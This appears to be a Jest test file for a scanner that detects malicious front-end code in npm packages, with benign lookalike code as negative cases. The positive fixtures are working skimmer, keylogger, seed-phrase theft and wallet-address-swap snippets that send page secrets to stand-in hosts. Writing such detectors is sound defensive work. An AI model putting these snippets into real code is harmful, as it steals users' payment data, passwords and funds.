/**
 * Front-end attacks shipped in packages: skimmers and keyloggers that send what a page's user
 * types to a host written in the code, and wallet-address swappers. Each positive is written the
 * way attackers vary such code (jQuery-style selectors, WebSocket, helpers, data in objects);
 * each negative is the legitimate code it resembles. Hosts are made up.
 */
import { analyzeSource } from './helpers';

const pkg = JSON.stringify({ name: 'ui-kit', version: '1.0.0', main: 'index.js' });
const rules = (code: Record<string, string>) =>
  analyzeSource({ 'package.json': pkg, ...code }).evidence.map((e) => e.rule);

describe('what a page user types, sent to a fixed host', () => {
  it.each([
    [
      'card field read through a $() selector, sent over a WebSocket',
      `const sock = new WebSocket('wss://live.uikit-cdn.example/s');
       $(document).on('change', function () {
         const n = $('input[name="cardnumber"]').val();
         const c = $('#cvv').val();
         sock.send(JSON.stringify([n, c]));
       });`,
    ],
    [
      'password field value posted with fetch from a helper',
      `const cfg = { to: 'https://fonts.uikit-cdn.example/f' };
       function collect() { return { p: document.querySelector('input[type=password]').value, u: location.href }; }
       setTimeout(() => fetch(cfg.to, { method: 'POST', body: JSON.stringify(collect()) }), 3000);`,
    ],
    [
      'seed phrase kept by a wallet in localStorage, sent as an image URL',
      `const k = ['wallet', 'mnemonic'].join('_');
       const img = new Image();
       img.src = 'https://px.uikit-cdn.example/t.gif?m=' + encodeURIComponent(localStorage.getItem(k));`,
    ],
    [
      'keystrokes caught by an onkeypress property handler, flushed into an image URL on a timer',
      `let buf = '';
       document.onkeypress = function (e) { buf += String.fromCharCode(e.which); };
       setInterval(function () { if (buf) { new Image().src = 'https://t.uikit-cdn.example/p?k=' + encodeURIComponent(buf); buf = ''; } }, 4000);`,
    ],
    [
      'whole localStorage dumped into a beacon',
      `navigator.sendBeacon('https://px.uikit-cdn.example/b', JSON.stringify(localStorage));`,
    ],
  ])('%s is js.page-secret-exfil', (_what, code) => {
    const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
    const t = r.evidence.find((x) => x.rule === 'js.page-secret-exfil');
    expect(t).toBeDefined();
    expect(t!.confidence).toBeGreaterThanOrEqual(0.8);
  });

  it.each([
    [
      'a form library posting the password to the endpoint its caller passes',
      `export function bind(form, endpoint) {
         form.addEventListener('submit', () => fetch(endpoint, { method: 'POST', body: form.querySelector('[type=password]').value }));
       }`,
    ],
    [
      'hotkeys that compare e.key and call a fixed API with a constant',
      `document.addEventListener('keydown', (e) => { if (e.key === 'k' && e.metaKey) fetch('https://api.uikit.example/palette'); });`,
    ],
    [
      'a theme setting from localStorage sent to the vendor API',
      `fetch('https://api.uikit.example/prefs', { method: 'POST', body: localStorage.getItem('theme') });`,
    ],
  ])('%s is not', (_what, code) => {
    expect(rules({ 'index.js': code })).not.toContain('js.page-secret-exfil');
  });
});

describe('wallet address swapping', () => {
  it.each([
    [
      'hooked ethereum provider rewriting the recipient',
      `const RX = /^0x[a-fA-F0-9]{40}$/;
       const SINK = '0x5B38Da6a701c568545dCfcB03FcB875f56beddC4';
       const p = window.ethereum; const orig = p.request.bind(p);
       p.request = (a) => { if (a.params && RX.test(a.params[0].to)) a.params[0].to = SINK; return orig(a); };`,
    ],
    [
      'page text rewritten with a TRON address',
      `const tron = new RegExp('T[1-9A-HJ-NP-Za-km-z]{33}', 'g');
       const mine = 'TJCnKsPa7y5okkXvQAidZBzqx3QyQ6sxMW';
       document.querySelectorAll('span, p').forEach((el) => { el.textContent = el.textContent.replace(tron, mine); });`,
    ],
  ])('%s is js.wallet-address-swap', (_what, code) => {
    expect(rules({ 'index.js': code })).toContain('js.wallet-address-swap');
  });

  it('an address validator with a copy button and the zero address constant is not', () => {
    const code = `const ZERO = '0x0000000000000000000000000000000000000000';
      export const isAddress = (a) => /^0x[0-9a-fA-F]{40}$/.test(a) && a !== ZERO;
      export const copy = (a) => navigator.clipboard.writeText(a);`;
    expect(rules({ 'index.js': code })).not.toContain('js.wallet-address-swap');
  });
});
